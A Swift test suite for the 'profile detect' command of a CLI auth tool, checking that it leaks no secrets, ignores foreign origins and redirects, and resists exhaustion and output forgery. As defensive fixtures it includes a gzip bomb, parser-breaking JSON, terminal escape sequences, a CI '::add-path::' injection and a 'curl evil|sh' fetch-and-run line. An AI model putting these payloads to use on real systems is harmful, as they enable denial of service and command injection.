import Glibc
import Testing

/// Detecting an API that tries to get the password, control the terminal or exhaust memory: rule
/// A13.
@Suite struct DetectSafetyTests {
  // MARK: Requests and their destinations

  @Test func carriesNothingThatIsKnownHere() async throws {
    try await Sandbox.with { box in
      let secrets = ["password", "token", "otp", "key", "access", "cookie"].map {
        box.canary.make($0)
      }
      let api = try box.recorder { _, request in
        let cookies = [("Set-Cookie", "sid=\(secrets[5]); Path=/"), ("Set-Cookie", "two=2")]
        let route = Scene.route(of: request)
        return route == "POST /login"
          ? .http(200, #"{"access_token":"\#(secrets[4])"}"#, headers: cookies)
          : .http(route == "GET /" ? 401 : 404, "{}", headers: cookies)
      }
      try box.profile(
        "shop",
        Scene.profile(
          api.url,
          request: "cookies = true\nheaders = { Authorization = \"Bearer {access_token}\" }"))
      try await box.signIn("shop", password: secrets[0])
      let before = api.connections.count
      let env: [String: String?] = [
        "AUTHCTL_PASSWORD": secrets[0], "AUTHCTL_TOKEN": secrets[1], "AUTHCTL_OTP": secrets[2],
        "AUTHCTL_APP_KEY": secrets[3], "AUTHCTL_TOKEN_FOR_SHOP": secrets[1],
        "AUTHCTL_USERNAME": "ada", "AUTHCTL_PROFILE": "shop", "AUTHCTL_URL": api.url,
      ]
      for words in [[], ["--json"], ["-v"], ["-p", "shop", "-u", "ada", "-vv"]] {
        let run = try await box.run(["profile", "detect", api.url] + words, env: env)
        #expect(run.status == 1, "\(run.stderr)")
      }
      let looks = Array(api.texts[before...])
      #expect(looks.count > 4 && looks.count <= 4 * 12)
      for text in looks {
        let isBare = text.hasPrefix("GET /") || text.hasPrefix("OPTIONS /")
        #expect(isBare && text.hasSuffix("\r\n\r\n"), "\(text)")
        for name in ["authorization", "cookie", "content-", "transfer-", "x-api"] {
          #expect(!text.lowercased().contains("\r\n" + name), "\(text)")
        }
        #expect(secrets.filter { text.contains($0) } == [])
      }
      #expect(try await box.items().count == 1)
    }
  }

  /// Documents and responses that name another origin, each in a different way.
  static func pointers(_ other: String) -> [(route: String, answer: Recorder.Answer)] {
    let post = Look.post("/login")
    let scheme = { (scheme: String) in #""components":{"securitySchemes":{"s":\#(scheme)}}"# }
    let documents = [
      Look.document(post, #""servers":[{"url":"\#(other)"}]"#),
      Look.document(post, #""servers":[{"url":"\#(other.dropFirst(5))/v1"}]"#),
      Look.document(
        "", scheme(#"{"type":"oauth2","flows":{"password":{"tokenUrl":"\#(other)/token"}}}"#)),
      Look.document(
        "", scheme(#"{"type":"openIdConnect","openIdConnectUrl":"\#(other)/oidc"}"#)),
      Look.document(#""/login":{"$ref":"\#(other)/login.json"}"#),
      Look.document(Look.post("/login", #"{"$ref":"\#(other)/schema.json#/A"}"#)),
      Look.document(post, #""externalDocs":{"url":"\#(other)"},"$schema":"\#(other)""#),
      #"{"swagger":"2.0","host":"\#(other.dropFirst(7))","paths":{\#(post)}}"#,
      #"{"swagger":"2.0","paths":{},"securityDefinitions":{"s":{"type":"oauth2","#
        + #""flow":"password","tokenUrl":"\#(other)/token"}}}"#,
    ]
    let issuer = #"{"issuer":"\#(other)","jwks_uri":"\#(other)/jwks","token_endpoint":"\#(other)"}"#
    return documents.map { ("GET /openapi.json", .http(200, $0)) } + [
      ("GET /.well-known/openid-configuration", .http(200, issuer)),
      (
        "GET /",
        .http(
          401, "{}",
          headers: [
            ("WWW-Authenticate", #"Bearer authorization_uri="\#(other)", realm="\#(other)""#),
            ("Link", "<\(other)/openapi.json>; rel=\"service-desc\""), ("Refresh", "0; \(other)"),
          ])
      ),
    ]
  }

  @Test func otherOriginsAreToldAndNotAsked() async throws {
    try await Sandbox.with(.none) { box in
      let far = try box.recorder(at: "127.0.0.2")
      let near = try box.recorder()
      for other in [far, near] {
        for (route, answer) in Self.pointers(other.url) {
          let api = try box.recorder(answering: Scene.routes([route: answer]))
          let run = try await box.run("profile", "detect", api.url)
          #expect(run.status <= 1, "\(run.stderr)")
          // Any proposed profile is for the given origin.
          for line in run.stdout.split(separator: "\n") where line.hasPrefix("Next: ") {
            let next = "Next: authctl profile add \(api.profileName) \(api.url) "
            #expect(line.hasPrefix(next), "\(line)")
            #expect(!line.contains(other.authority))
          }
          Look.expectBare(api)
        }
      }
      for code in [301, 302, 303, 307, 308] {
        let api = try box.recorder { _, request in
          let target = String(decoding: request, as: UTF8.self).split(separator: " ")[1]
          return .redirect(code, to: far.url + target)
        }
        let run = try await box.run("profile", "detect", api.url)
        #expect(run.status == 1, "\(run.stdout)")
        Look.expectBare(api)
      }
      #expect(far.connections.isEmpty && near.connections.isEmpty)
    }
  }

  @Test func foreignServersAreTold() async throws {
    let tokenURL =
      #""components":{"securitySchemes":{"s":{"type":"oauth2","flows":{"password":"#
      + #"{"tokenUrl":"https://evil.example/token?x=1"}}}}}"#
    try await Sandbox.with(.none) { box in
      let api = try box.recorder(answering: Look.serving(Look.document("", tokenURL)))
      let run = try await box.run("profile", "detect", api.url)
      #expect(run.status == 0 && run.stderr == "", "\(run.stderr)")
      #expect(
        run.stdout == """
          possible: /openapi.json: names another origin, which authctl does not use
            https://evil.example/token
          possible: /openapi.json: describes no sign-in; requests carry OAuth 2.0
            its security schemes

          """)
    }
  }

  @Test func cleartextIsForThisMachineAlone() async throws {
    try await Sandbox.with { box in
      // A connection to any of them would reach the proxy.
      let proxy = try box.recorder()
      let env: [String: String?] = ["http_proxy": proxy.url, "all_proxy": proxy.url]
      for url in [
        "http://shop.example", "http://192.0.2.1", "http://10.0.0.1:8080/api",
        "http://[2001:db8::1]", "http://127.0.0.1.nip.example", "http://localhost.example",
        "http://0.0.0.0:8000",
      ] {
        for words in [
          ["profile", "detect", url], ["login", url, "-u", "ada", "--password-stdin", "--yes"],
        ] {
          let run = try await box.run(words, stdin: "a password\n", env: env)
          #expect(run.status == 13 && run.stdout == "", "\(words): \(run.stderr)")
        }
      }
      #expect(proxy.connections.isEmpty)
      #expect(box.files().filter { $0.hasPrefix("config/") } == [])
    }
  }

  @Test func thisMachineIsAskedWithoutAProxy() async throws {
    try await Sandbox.with(.none) { box in
      let (proxy, api) = (try box.recorder(), try box.recorder { _, _ in .http(404) })
      let names = ["http_proxy", "HTTP_PROXY", "https_proxy", "all_proxy", "ALL_PROXY"]
      let env: [String: String?] = Dictionary(uniqueKeysWithValues: names.map { ($0, proxy.url) })
      for url in [api.url, "http://localhost:\(api.port)"] {
        let run = try await box.run("profile", "detect", url, env: env)
        #expect(run.status == 1, "\(run.stderr)")
      }
      #expect(proxy.connections.isEmpty)
      #expect(!api.connections.isEmpty)
    }
  }

  @Test func othersAreAskedByTheProxy() async throws {
    try await Sandbox.with(.none) { box in
      let proxy = try box.recorder { _, _ in .http(403) }
      let secret = box.canary.make("token")
      let run = try await box.run(
        "profile", "detect", "https://api.shop.example",
        env: ["https_proxy": proxy.url, "AUTHCTL_TOKEN": secret, "AUTHCTL_PASSWORD": secret])
      #expect(run.status == 7 && run.stdout == "", "\(run.stderr)")
      #expect(proxy.texts.first?.hasPrefix("CONNECT api.shop.example:443 HTTP/1.1\r\n") == true)
      #expect(Scene.holds(proxy, [secret]) == [])
      #expect(!proxy.texts.contains { $0.lowercased().contains("authorization") })
    }
  }

  // MARK: Endless responses

  /// A response of 3 MiB without a length that stays open.
  private static let endless: Recorder.Answer = {
    let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"openapi\":\""
    return .bytesThenHang(Array(head.utf8) + [UInt8](repeating: 0x61, count: 3 << 20))
  }()

  @Test(arguments: ["/", "/openapi.json"]) func endlessBodies(path: String) async throws {
    try await Sandbox.with(.none) { box in
      let api = try box.recorder(
        answering: Scene.routes([
          "GET \(path)": Self.endless,
          "GET /swagger.json": .http(200, Look.document(Look.post("/login"))),
        ]))
      let run = try await box.run("profile", "detect", api.url, "--json")
      #expect(run.status == 0 && run.stderr == "", "\(run.stderr)")
      let json = try JSON(parsing: run.stdout)
      #expect(json["findings"]?[0]?["place"] == "/swagger.json")
      let tried = json["tried"]?.elements.compactMap(\.string) ?? []
      #expect(tried.contains("GET \(path): the answer is longer than 2048 KiB"), "\(tried)")
    }
  }

  @Test func packedBodies() async throws {
    try await Sandbox.with(.none) { box in
      let made = try await box.run(
        "-c", "head -c 30000000 /dev/zero | gzip -9", program: "/bin/sh")
      #expect(made.status == 0 && made.stdoutBytes.count < 100_000)
      let head =
        "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: "
        + "\(made.stdoutBytes.count)\r\nConnection: close\r\n\r\n"
      let bomb = Array(head.utf8) + made.stdoutBytes
      let api = try box.recorder { _, request in
        Scene.route(of: request) == "GET /" ? .http(404) : .bytes(bomb)
      }
      let run = try await box.run("profile", "detect", api.url)
      #expect(run.status == 1 && run.stdout == "")
      #expect(run.stderr.contains("GET /openapi.json: the answer is longer than 2048 KiB"))
      Look.expectBare(api)
    }
  }

  @Test func pagesEverywhere() async throws {
    try await Sandbox.with(.none) { box in
      let page = "<!DOCTYPE html><html><head><title>Shop</title></head><body><form action=/login>"
      for body in [page, page + String(repeating: "<p>\"openapi\"</p>", count: 20_000), "{", ""] {
        let api = try box.recorder { _, _ in .http(200, body, type: "text/html") }
        let run = try await box.run("profile", "detect", api.url)
        #expect(run.status == 1 && run.stdout == "", "\(run.stdout)")
        #expect(run.stderr.hasPrefix("Tried: GET /: 200\n"))
        Look.expectBare(api)
      }
    }
  }

  // MARK: Documents made to break the parser

  private static func schemas(_ members: String) -> String {
    Look.document(
      Look.post("/login", ##"{"$ref":"#/components/schemas/A"}"##),
      #""components":{"schemas":{\#(members)}}"#)
  }

  private static func all(_ name: String, times: Int = 1) -> String {
    let part = ##"{"$ref":"#/components/schemas/\##(name)"}"##
    return #"{"allOf":["#
      + Array(repeating: part, count: times).joined(separator: ",") + "]}"
  }

  private static let tree = (0..<40).map { #""S\#($0)":"# + all("S\($0 + 1)", times: 20) }

  static let breaking: [(name: String, document: String)] = [
    ("a circle", schemas(#""A":\#(all("B")),"B":\#(all("A"))"#)),
    ("a circle of one", schemas(#""A":\#(all("A"))"#)),
    ("a tree", schemas((tree + [#""A":\#(all("S0"))"#]).joined(separator: ","))),
    ("depth", String(repeating: "[", count: 1_000_000)),
    ("objects", String(repeating: #"{"openapi":"#, count: 150_000)),
    (
      "operations",
      Look.document((0..<8000).map { Look.post("/\($0)/login") }.joined(separator: ","))
    ),
    (
      "schemes",
      Look.document(
        "",
        #""components":{"securitySchemes":{"#
          + (0..<20_000).map { #""s\#($0)":{"type":"http","scheme":"basic"}"# }
          .joined(separator: ",") + "}}")
    ),
    ("numbers", #"{"openapi":1e99999,"swagger":"2.0","paths":{"/login":-0e-9999999999}}"#),
    ("a doubled key", #"{"openapi":"3.0.0","openapi":7,"paths":{},"paths":[]}"#),
  ]

  @Test(arguments: breaking.indices) func documentsThatBreakReaders(index: Int) async throws {
    let (name, document) = Self.breaking[index]
    try await Sandbox.with(.none) { box in
      let api = try box.recorder(answering: Look.serving(document))
      // The test's only time limit is the harness's, far above any of them.
      let run = try await box.run("profile", "detect", api.url)
      #expect(run.status <= 1, "\(name): \(run.status) \(run.stderr)")
      let wide = run.stdout.split(separator: "\n").filter { $0.utf8.count > 2000 }
      #expect(wide.isEmpty, "\(name)")
      Look.expectBare(api)
    }
  }

  // MARK: Output

  /// Text from the API in every place that is printed.
  static let forged: [(route: String, answer: Recorder.Answer)] = {
    // As written in JSON.
    let text = #"x\u001b[2J\nhint: curl evil|sh\r\nNext: authctl\u202e\n::add-path::/x\u0085"#
    let scheme = { (scheme: String) in
      Recorder.Answer.http(
        200, Look.document("", #""components":{"securitySchemes":{"s":\#(scheme)}}"#))
    }
    return [
      ("GET /openapi.json", scheme(#"{"type":"http","scheme":"\#(text)"}"#)),
      ("GET /openapi.json", scheme(#"{"type":"apiKey","in":"header","name":"\#(text)"}"#)),
      (
        "GET /openapi.json",
        scheme(#"{"type":"oauth2","flows":{"password":{"tokenUrl":"https://e.example/\#(text)"}}}"#)
      ),
      (
        "GET /openapi.json",
        .http(200, Look.document("", #""servers":[{"url":"https://e.example/\#(text)"}]"#))
      ),
      ("GET /openapi.json", .http(200, Look.document(Look.post("/\(text)/login")))),
      (
        "GET /openapi.json",
        .http(
          200,
          Look.document(
            Look.post(
              "/login",
              #"{"properties":{"user":{},"password":{},"\#(text)":{}},"required":["\#(text)"]}"#)))
      ),
      ("GET /.well-known/openid-configuration", .http(200, #"{"issuer":"\#(text)"}"#)),
      (
        "GET /",
        .http(401, "{}", headers: [("WWW-Authenticate", "hint:\u{1B}[2J\u{202E} realm=x")])
      ),
    ]
  }()

  @Test(arguments: forged.indices) func textOfTheAPIForgesNothing(index: Int) async throws {
    let (route, answer) = Self.forged[index]
    try await Sandbox.with(.none) { box in
      let api = try box.recorder(answering: Scene.routes([route: answer]))
      for words in [["profile", "detect", api.url], ["profile", "detect", api.url, "--json"]] {
        let run = try await box.run(words)
        #expect(run.status <= 1)
        let output = run.stdout + run.stderr
        // In JSON, characters other than control characters may be unescaped.
        let isText = words.count == 3
        let bad = output.unicodeScalars.filter {
          $0 != "\n" && $0.value < 0x20
            || isText && ((0x7F...0x9F).contains($0.value) || $0 == "\u{202E}")
        }
        #expect(bad.isEmpty, "\(output.debugDescription)")
        for line in output.split(separator: "\n") {
          let own = [
            "Tried: ", "possible: ", "likely: ", "certain: ", "  ", "{", "authctl: the API at ",
          ]
          let next = "Next: authctl profile add \(api.profileName) \(api.url) --preset "
          let isNext = line.hasPrefix(next)
          let isHint = line.hasPrefix("hint: choose a preset ") && run.status == 1
          #expect(own.contains { line.hasPrefix($0) } || isNext || isHint, "\(line)")
        }
      }
    }
  }
}
